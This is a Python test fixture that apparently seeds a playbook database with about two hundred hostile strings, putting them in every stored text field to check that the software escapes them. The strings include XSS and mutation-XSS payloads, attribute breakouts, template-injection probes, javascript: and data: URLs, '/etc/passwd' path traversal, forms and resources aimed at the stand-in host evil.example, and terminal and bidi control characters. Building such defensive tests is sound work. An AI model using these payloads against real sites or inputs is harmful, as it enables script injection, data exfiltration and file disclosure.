"""Two hundred texts, each of which would run something, or hide what it is, where a page took it for more than text."""

from collections.abc import Sequence
from dataclasses import replace

from playbook_db.domain.operations import cast_votes
from playbook_db.domain.playbook import KeyPoint, Skipped, Vote, storable, why_name_unusable
from playbook_db.domain.trust.evidence import Evidence
from playbook_db.projects import as_text
from playbook_db.services.project import Project
from playbook_db.store import jobs
from playbook_db.store.playbook.learning import Call, ChunkKey
from playbook_db.store.playbook.repository import PlaybookRepository, RevisionOrigin

SECTION = "OTHERS"
_AT_ONCE = 4  # texts in a revision

_RUN = "window.pwned=1"
_OPEN = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT >",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x00>{_RUN}</script\x00>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script/x>",
    f"<!--><script>{_RUN}</script>-->",
    f"--><script>{_RUN}</script><!--",
    f"--!><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"]]><script>{_RUN}</script>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:parent.pwned=1></object>",
    f"<embed src='data:text/html,<script>{_RUN}</script>'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a 1x, //evil.example/b 2x'>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<video poster=//evil.example/x src=//evil.example/y autoplay></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<body background=//evil.example/x>",
    "<table background=//evil.example/x><tr><td>",
    "<form action=//evil.example/ id=stolen><button form=stolen>Save</button>",
    "<input type=image src=//evil.example/x>",
    "<button formaction=//evil.example/>Save</button>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<a href='java\nscript:{_RUN}'>click</a>",
    f"<a href='&#106;avascript:{_RUN}'>click</a>",
    f"<a href=' \x01javascript:{_RUN}'>click</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>click</a>",
    f"<a href='vbscript:{_RUN}'>click</a>",
    "<dialog open>Type your password <input name=q></dialog>",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<marquee>",
    "<frameset><frame src=//evil.example/>",
)
_OUT = (
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</option></select><script>{_RUN}</script>",
    f"</svg><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</button></form><script>{_RUN}</script>",
    "</main></body></html>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f" onmouseover={_RUN} ",
    f'" style="animation-name:x" onanimationstart="{_RUN}',
    '" style="position:fixed;inset:0;background:red',
    '" formaction="//evil.example/',
    '" href="//evil.example/',
    f'\\"><script>{_RUN}</script>',
    f"&quot;><script>{_RUN}</script>",
    f"%22%3E%3Cscript%3E{_RUN}%3C/script%3E",
    f"\u2028</script><script>{_RUN}</script>",
)
_SVG = (
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><use href=//evil.example/x.svg#x /></svg>",
    "<svg><image href=//evil.example/x /></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>click</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={_RUN}>",
    "<svg><foreignObject><iframe src=javascript:parent.pwned=1></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<svg><title><style><img title='</style><img src=x onerror={_RUN}>'></title></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{_RUN}'>click</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ look.project.store }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% raw %}{{ 1 }}{% endraw %}",
    "{# not shown #}",
    "{{ '<script>'|safe }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "<?php echo 7 * 7 ?>",
    "%(text)s %s %d %%",
    "{0} {name!r:>{width}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "[[7*7]] @(7*7) ~[x]",
)
_URLS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"javascript://%0a{_RUN}",
    f"\tjavascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "//evil.example/",
    "\\\\evil.example\\share",
    "/\\evil.example/",
    "https://evil.example@127.0.0.1/",
    "../../../../etc/passwd",
    "..%2f..%2fpoints?q=x&project=/",
    "?q=x#<script>",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/x",
)
_HIDDEN = (
    "a null \x00 inside",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;a title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred",
    "a bell \x07, a backspace \x08\x08\x08, a delete \x7f",
    "carriage\rreturn",
    "windows\r\nlines",
    "form\x0cfeed, vertical\x0btab",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069 \u2067turned\u2069",
    "\u200bzero\u200bwidth\u200b",
    "\ufeffmark at the beginning",
    "soft\u00adhyphen",
    "\U000e0041\U000e0042\U000e0043 tagged",
    "\u2028line separator\u2029paragraph separator",
    "\ufff9annotated\ufffabelow\ufffb",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u0334\u0339l\u0336g\u0338o\u0337",
    "\ufdfa" * 40,
    "\u0645\u0631\u062d\u0628\u0627 <b>\u0627\u0644\u0639\u0627\u0644\u0645</b>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 <i>family</i>",
    "\uff1cscript\uff1e" + _RUN + "\uff1c/script\uff1e",
    "\u02c2script\u02c3" + _RUN,
    "+ADw-script+AD4-" + _RUN + "+ADw-/script+AD4-",
    "\xbcscript\xbe" + _RUN + "\xbc/script\xbe",
    "a" * 3000,
    "<" * 500,
    "&" * 200 + "lt;script&gt;",
    "&lt;script&gt;" + _RUN + "&lt;/script&gt;",
    "&#60;script&#62;" + _RUN,
    "&#x3c;script&#x3e;" + _RUN,
    "\\u003cscript\\u003e" + _RUN,
    "\\x3cscript\\x3e" + _RUN,
    "&amp;lt;b&amp;gt;",
    "&nbsp;&shy;&zwj;&bogus;&#0;&#xD800;",
)
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle",
    "onbegin", "onwheel", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_TAGS = ("img src=x", "details open", "input autofocus", "body")
_RUNNING = tuple(f"<{tag} {event}={_RUN}>" for tag in _TAGS for event in _EVENTS)

TEXTS = tuple(dict.fromkeys((*_OPEN, *_OUT, *_SVG, *_TEMPLATES, *_URLS, *_HIDDEN, *_RUNNING)))


def fill(project: Project) -> None:
    """Let each of TEXTS stand wherever a playbook keeps words: in points and what they were before, as a name where it
    can be one, in reasons, votes, evidence, sessions, actors, messages, proposals, jobs, calls and files' names."""
    names = []
    with project.store.write(project.key) as book:
        for text in TEXTS:
            usable = why_name_unusable(text) is None
            names.append(text if usable and text not in names else book.draft.new_name(SECTION))
            book.draft.add(KeyPoint(names[-1], text, SECTION))
        book.commit("import", "took in everything")
    for first in range(0, len(TEXTS), _AT_ONCE):
        with project.store.write(project.key) as book:
            _session(book, names[first : first + _AT_ONCE], TEXTS[first : first + _AT_ONCE], TEXTS[first - 1])
    with project.store.write(project.key) as book:
        for name, text in zip(names[::20], TEXTS, strict=False):
            book.draft.retire(name, reason=text)
        book.commit("edit", TEXTS[0])


def _session(book: PlaybookRepository, names: Sequence[str], texts: Sequence[str], other: str) -> None:
    """One revision, of a session that is called as the first of *texts*, and what else there is of each of them."""
    votes, skipped, reflections = list[Vote](), list[Skipped](), list[int]()
    for name, text in zip(names, texts, strict=True):
        said, path = storable(text), as_text(f"/home/ada/{text}.jsonl".replace("\0", ""))
        evidence = (Evidence(said, said, "outside"),)
        book.draft.change(replace(book.draft[name], text=storable(f"{other} or {text}")), kind="edit", reason=said)
        votes += [Vote(name, "helpful", said, evidence=evidence), Vote(said, "harmful", said)]
        skipped.append(Skipped(len(skipped), {"type": said}, said))
        call = Call("reflect", said, 1000, 100, 10, 0.5, 1)
        given = {"bullet_tags": [{"name": said, "tag": "helpful", "rationale": said}], "lessons": [said]}
        key = ChunkKey(path, 0, 9)
        reflections.append(book.add_reflection(key, session_id=said, analysis=said, calls=[call], **given))
        book.add_call(call, session_id=said)
        added = {"type": "ADD", "text": f"Proposed: {said}", "section": said}
        book.add_proposal(added, "ADD", evidence, "outside", said)
        retired = {"type": "DELETE", "target_id": name, "reason": said}
        book.add_proposal(retired, "DELETE", evidence, "outside", said)
        job = {"session_id": said, "transcript_path": path, "reason": said}
        jobs.add(book.connection, book.playbook_id, job, now=book.now)
        other = text
    cast, first = cast_votes(book.draft, votes), storable(texts[0])
    done = book.commit("learn", first, votes=cast, skipped=skipped, origin=RevisionOrigin(first, first))
    for number, text in zip(reflections, texts, strict=True):
        book.finish_reflection(number, revision=done.revision, curator_reasoning=storable(text), calls=[])
